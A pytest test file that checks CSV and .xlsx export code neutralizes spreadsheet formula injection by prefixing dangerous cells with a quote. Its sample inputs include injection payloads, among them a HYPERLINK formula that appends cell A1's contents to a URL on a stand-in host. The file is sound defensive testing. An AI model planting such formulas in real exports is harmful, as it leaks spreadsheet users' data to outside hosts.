"""CSV cells a spreadsheet program would run as formulas are neutralized (issue 13, item 5).

OWASP's guidance on CSV injection: a cell starting with =, +, -, @, a tab or a carriage return
is read as a formula; a leading "'" makes it text. The .xlsx keeps the exact text as a string.
"""
from __future__ import annotations

import csv
import datetime
import io
from pathlib import Path

import pytest

from support.paths import REPO
from ansible.module_utils.table_files import csv_bytes, neutralize_csv, xlsx_bytes

DANGEROUS = ['=HYPERLINK("http://example.org/?"&A1,"click")', "@SUM(1)", "+1", "-2+3", "\tleading tab",
             "\rleading carriage return", "=1+1"]


def parsed(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_would_run_as_a_formula_gets_a_leading_quote(text):
    rows = parsed(csv_bytes(("value",), [{"value": text}]))
    assert rows[1] == ["'" + text]


@pytest.mark.parametrize("text", ["wrong laterality", "6", "a = b", "1-2", "'quoted", "", " =x"])
def test_plain_text_is_written_as_it_is(text):
    assert parsed(csv_bytes(("value",), [{"value": text}]))[1] == [text]


def test_numbers_written_by_the_code_stay_numbers():
    # Ids, offsets, lead times and counts are ints/floats: a negative one is a number to a
    # spreadsheet, not a formula, and stays a number; None is an empty field.
    data = csv_bytes(("task_id", "start", "lead_time", "span_text"),
                     [{"task_id": 7, "start": -1, "lead_time": -0.5, "span_text": None}])
    assert data.split(b"\r\n")[1] == b"7,-1,-0.5,"


def test_the_header_and_quoting_are_unchanged():
    data = csv_bytes(("a", "b"), [{"a": '=x,"y"', "b": "ok"}])
    assert data == b'a,b\r\n"\'=x,""y""",ok\r\n'


def test_the_xlsx_keeps_the_exact_text_as_strings():
    from openpyxl import load_workbook

    rows = [{"v": text} for text in DANGEROUS]
    book = load_workbook(io.BytesIO(xlsx_bytes(("v",), rows, "t", datetime.date(2026, 11, 27))))
    cells = [row[0] for row in book["t"].iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == DANGEROUS
    assert {cell.data_type for cell in cells} == {"s"}


# Label Studio's own CSV export (study_export_format: CSV) is written by the project too.
LS_CSV = (b'annotation_id,annotator,errors,id,impression,lead_time\n'
          b'3,1,"=HYPERLINK(""http://example.org/"",""x"")",7,"Mild, stable.",4.2\n'
          b'4,1,@SUM(1),8,-2+3,-1\n')


def test_a_label_studio_csv_export_is_neutralized_cell_by_cell():
    rows = parsed(neutralize_csv(LS_CSV))
    assert rows == [["annotation_id", "annotator", "errors", "id", "impression", "lead_time"],
                    ["3", "1", "'=HYPERLINK(\"http://example.org/\",\"x\")", "7", "Mild, stable.", "4.2"],
                    ["4", "1", "'@SUM(1)", "8", "'-2+3", "'-1"]]


def test_a_csv_export_without_formulas_keeps_its_bytes():
    clean = b'id,impression\n1,"Mild, stable."\n2,"two\nlines"\n'
    assert neutralize_csv(clean) == clean
    assert neutralize_csv(clean.replace(b"\n", b"\r\n")) == clean.replace(b"\n", b"\r\n")
